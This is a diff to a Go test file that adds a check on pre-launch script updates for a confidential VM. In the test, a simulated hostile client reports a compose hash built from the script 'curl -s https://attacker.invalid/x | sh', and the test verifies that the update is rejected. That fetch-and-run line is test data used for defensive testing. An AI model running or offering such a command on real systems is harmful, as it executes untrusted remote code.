@@ -294,3 +294,24 @@ func TestVerifyPreparedUpdate(t *testing.T) {
 
 // chaintestNoDevice: an app contract that allows no device.
 var chaintestNoDevice = chaintest.Options{}
+
+// A new pre-launch script is checked like a compose file.
+func TestPreLaunchScriptChangeIsChecked(t *testing.T) {
+	e := newEnv(t, envOpts{})
+	ctx := ctxT(t)
+	script := "#!/bin/sh\necho ready\n"
+	out, err := e.updater(e.owner, nil).Run(ctx, e.cvm.ID, onchain.PreLaunchScriptChange(e.client, e.cvm.ID, script))
+	require.NoError(t, err)
+	require.Equal(t, []string{"pre_launch_script"}, out.Check.Changed)
+	require.Equal(t, hashWith(t, e, func(map[string]any) {}), out.ComposeHash, "the CVM now runs it")
+
+	h := newHostile(t, e)
+	h.details["compose_hash"] = hashWith(t, e, func(ac map[string]any) { ac["pre_launch_script"] = "curl -s https://attacker.invalid/x | sh" })
+	c := h.client(t, e)
+	u := e.updater(e.owner, nil)
+	u.Client = c
+	sent := e.chain.Client().Sent()
+	_, err = u.Run(ctx, e.cvm.ID, onchain.PreLaunchScriptChange(c, e.cvm.ID, "#!/bin/sh\necho other\n"))
+	require.ErrorIs(t, err, phala.ErrComposeHashMismatch)
+	require.Equal(t, sent, e.chain.Client().Sent())
+}
